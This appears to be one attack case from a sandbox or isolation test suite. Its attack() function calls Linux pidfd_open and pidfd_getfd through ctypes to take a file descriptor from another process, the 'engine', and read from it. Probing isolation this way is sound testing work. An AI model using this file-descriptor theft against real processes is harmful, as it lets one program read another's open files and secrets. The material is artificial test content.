"""Take a file that the engine has open."""

GOAL = "tell"
NEEDS = "ptrace"


def attack(world):
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    process = libc.syscall(434, world["engine"], 0)
    file = libc.syscall(438, process, world["open_file"], 0)
    return os.pread(file, 40, 0).decode()
